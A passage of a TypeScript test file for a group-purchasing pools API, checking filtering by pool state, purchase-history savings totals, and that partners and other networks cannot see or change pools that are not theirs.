          claims: claims.partner('hs1', 'hs1-p1'),
        })
      ).body.items as { id: string; myQuantity: number }[];
    expect((await list('open')).map((p) => [p.id, p.myQuantity])).toEqual([[openPool2.id, 2]]);
    expect((await list('closed')).map((p) => p.id)).toEqual([closedPool.id]);
    expect((await list('cancelled')).map((p) => p.id)).toEqual([cancelled.id]);
    const badState = await call(listPools, {
      method: 'GET',
      path: '/pools?state=done',
      claims: claims.coordinator('hs1'),
    });
    expect(badState.status).toBe(400);
    expect(badState.body.errors[0].path).toBe('query.state');
    // history: savings from the hand-computed case (30 units at 11.40 instead of 15.00 / 13.00 alone)
    const res = await call(history, {
      method: 'GET',
      path: '/partners/hs1-p1/purchases',
      claims: claims.partner('hs1', 'hs1-p1'),
    });
    expect(res.status).toBe(200);
    expect(res.body.items.map((i: { status: string }) => i.status)).toEqual(['closed', 'cancelled', 'open']);
    expect(res.body.totals).toEqual({
      pools: 1,
      spentCents: 34_200 + 545,
      savingsVsListCents: 10_800,
      savingsVsAloneCents: 4_800,
    });
    expect(res.body.items[1].cancelReason).toBe('too few');
    const foreign = await call(history, {
      method: 'GET',
      path: '/partners/hs1-p1/purchases',
      claims: claims.partner('hs1', 'hs1-p2'),
    });
    expect(foreign.status).toBe(404);
    const coordinator = await call(history, {
      method: 'GET',
      path: '/partners/hs1-p2/purchases',
      claims: claims.coordinator('hs1'),
    });
    expect(coordinator.body.totals.savingsVsAloneCents).toBe(4_000);
  });
});

describe('tenancy', () => {
  it('another network learns nothing about a pool and cannot touch it', async () => {
    await givenNetwork('tx1');
    await givenNetwork('tx2');
    const pool = await open('tx1');
    await join('tx1', pool.id, 'tx1-p1', 10);
    const other = claims.coordinator('tx2');
    const otherPartner = claims.partner('tx2', 'tx2-p1');
    const results = await Promise.all([
      detail(pool.id, other),
      detail(pool.id, otherPartner),
      join('tx2', pool.id, 'tx2-p1', 5),
      change('tx2', pool.id, 'tx2-p1', 5),
      call(withdraw, { method: 'DELETE', path: `/pools/${pool.id}/lines/tx2-p1`, claims: otherPartner }),
      call(updateDeadline, {
        method: 'PUT',
        path: `/pools/${pool.id}/deadline`,
        claims: other,
        body: { deadline: inMinutes(30) },
      }),
      call(cancelPool, {
        method: 'POST',
        path: `/pools/${pool.id}/cancel`,
        claims: other,
        body: { reason: 'x' },
      }),
      close('tx2', pool.id, other),
      call(history, { method: 'GET', path: '/partners/tx1-p1/purchases', claims: other }),
    ]);
    expect(results.map((r) => r.status)).toEqual([404, 404, 404, 404, 404, 404, 404, 404, 404]);
    for (const r of results) expect(r.text).not.toContain('OSB');
    const listed = await call(listPools, { method: 'GET', path: '/pools', claims: other });
    expect(listed.body.items).toEqual([]);
    const mine = await detail(pool.id, claims.coordinator('tx1'));
    expect(mine.body).toMatchObject({ status: 'open', totals: { quantity: 10 } });
  });
});
